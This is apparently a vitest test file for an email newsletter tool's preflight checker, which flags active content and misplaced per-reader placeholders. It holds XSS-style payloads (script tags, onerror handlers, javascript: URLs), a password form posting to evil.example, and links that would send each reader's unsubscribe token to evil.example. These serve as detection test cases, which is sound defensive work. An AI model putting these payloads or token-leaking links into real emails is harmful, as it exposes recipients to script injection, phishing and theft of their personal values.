import { describe, expect, it } from 'vitest';
import { preflight } from '../../../src/check/rules.js';
import { personaliseHtml } from '../../../src/check/run-preflight.js';
import { parseConfig } from '../../../src/config/load.js';
import type { Manifest } from '../../../src/built/manifest.js';

const config = parseConfig({ postalAddress: '1 Example Way' });
const manifest = {
  week: '2024-W10',
  subject: 'Subject',
  preheader: 'Preheader',
  items: [{ kind: 'lead', file: 'lead.md' }],
  sections: { news: 1, stateDept: true, related: 0 },
} as unknown as Manifest;

/** The active-content findings for an email body. */
function activeContent(body: string): string[] {
  const html = `<!doctype html><html><head><meta http-equiv="X-UA-Compatible" content="IE=edge"></head><body>${body}<a href="%%UNSUBSCRIBE_URL%%">Unsubscribe</a></body></html>`;
  return preflight({ manifest, html, text: '%%UNSUBSCRIBE_URL%%', largestPersonalisedHtml: html, sampleMessage: '', config })
    .filter((f) => f.rule === 'active-content')
    .map((f) => `${f.level} ${f.where}: ${f.message}`);
}

describe('check: active content from any source', () => {
  it.each([
    ['<script>steal()</script>', 'error issue.html <script>: <script> element: email cannot carry active content'],
    ['<p onclick="steal()">Hi</p>', 'error issue.html <p onclick>: event handler onclick="steal()"'],
    ['<img src="https://example.com/a.png" alt="a" onerror="steal()">', 'error issue.html <img onerror>: event handler onerror="steal()"'],
    ['<a href="javascript:steal()">x</a>', 'error issue.html <a href>: script URL javascript:steal()'],
    ['<a href=" JavaScript:steal()">x</a>', 'error issue.html <a href>: script URL  JavaScript:steal()'],
    ['<a href="data:text/html,<b>hi</b>">x</a>', 'error issue.html <a href>: script URL data:text/html,<b>hi</b>'],
    ['<form action="https://evil.example/"><input name="password"></form>', 'error issue.html <form>: <form> element: email cannot carry forms'],
    ['<iframe src="https://evil.example/"></iframe>', 'error issue.html <iframe>: <iframe> element: email cannot carry active content'],
    ['<object data="https://evil.example/x.swf"></object>', 'error issue.html <object>: <object> element: email cannot carry active content'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'error issue.html <meta>: <meta http-equiv="refresh"> redirects the reader'],
    ['<div style="width: expression(alert(1))">x</div>', 'error issue.html <div style>: script in a style attribute: width: expression(alert(1))'],
    ['<!--[if mso]><script>steal()</script><![endif]-->', 'error issue.html <!-- -->: active content inside a comment: <script'],
  ])('flags %s as an error', (body, finding) => {
    expect(activeContent(body)).toContain(finding);
  });

  it('accepts ordinary email markup: links, images (also data: images), styles, Outlook comments', () => {
    const body = `<!--[if mso]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->
      <table role="presentation"><tr><td style="font-family: 'Helvetica Neue', Arial; color: #1d1d1f">
      <a href="https://example.com/">Read</a> <a href="mailto:editors@example.org">Write</a>
      <img src="https://example.com/a.png" alt="A"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="B">
      <noscript>Online only</noscript><p>Click on= the online version</p></td></tr></table>`;
    expect(activeContent(body)).toEqual([]);
  });
});

describe('personaliseHtml (what check and preview show)', () => {
  it('escapes the greeting and the link as HTML, as send does', () => {
    const withGreeting = parseConfig({ greeting: { withName: 'Dear {name},', withoutName: 'Dear <b>reader</b>,' }, unsubscribe: { url: 'https://example.org/u?a=1&token={token}' } });
    const html = personaliseHtml('<p>%%GREETING%%</p><a href="%%UNSUBSCRIBE_URL%%">Unsubscribe</a>', withGreeting, { email: 'a@example.org', name: '<img src=x onerror=alert(1)>' }, 's');
    expect(html).toContain('<p>Dear &lt;img src=x onerror=alert(1)&gt;,</p>');
    expect(html).toMatch(/href="https:\/\/example.org\/u\?a=1&amp;token=[^"]+"/);
    expect(personaliseHtml('<p>%%GREETING%%</p>', withGreeting, { email: 'a@example.org', name: '' }, 's')).toBe('<p>Dear &lt;b&gt;reader&lt;/b&gt;,</p>');
  });
});

describe('check: placeholders only where the templates put them', () => {
  const findings = (body: string, text = 'Unsubscribe: %%UNSUBSCRIBE_URL%%\n') => {
    const html = `<!doctype html><html><body><div>%%GREETING%%</div>${body}<a href="%%UNSUBSCRIBE_URL%%">Unsubscribe</a></body></html>`;
    return preflight({ manifest, html, text, largestPersonalisedHtml: html, sampleMessage: '', config })
      .filter((f) => f.rule === 'placeholder')
      .map((f) => `${f.where}: ${f.message}`);
  };

  it('accepts the templates’ own: the unsubscribe link as a whole address, the greeting as text', () => {
    expect(findings('<p>Dear friends, (%%GREETING%%) welcome.</p>', '%%GREETING%%\n\nUnsubscribe: %%UNSUBSCRIBE_URL%%\n')).toEqual([]);
  });

  it('flags a placeholder inside another address or glued to other text, which would hand each reader’s value to a site', () => {
    expect(findings('<p><a href="https://evil.example/r?u=%%UNSUBSCRIBE_URL%%">Read</a> <img src="https://evil.example/p.gif?n=%%GREETING%%" alt="x"></p>')).toEqual([
      'issue.html <a href>: a per-reader placeholder inside an attribute: href="https://evil.example/r?u=%%UNSUBSCRIBE_URL%%"; send would write each reader\'s own value there',
      'issue.html <img src>: a per-reader placeholder inside an attribute: src="https://evil.example/p.gif?n=%%GREETING%%"; send would write each reader\'s own value there',
    ]);
    expect(findings('<p>See https://evil.example/r?u=%%UNSUBSCRIBE_URL%% now</p>', 'Go to https://evil.example/?u=%%UNSUBSCRIBE_URL%%\n')).toEqual([
      'issue.html: %%UNSUBSCRIBE_URL%% joined to other text ("See https://evil.example/r?u=%%UNSUBSCRIBE_URL%% now"): a link around it would carry each reader\'s own value',
      'issue.txt: %%UNSUBSCRIBE_URL%% joined to other text ("Go to https://evil.example/?u=%%UNSUBSCRIBE_URL%%"): a link around it would carry each reader\'s own value',
    ]);
    expect(findings('<p>%%PASSWORD%%</p>')).toEqual(['issue.html: %%PASSWORD%% is no placeholder send fills']);
  });
});
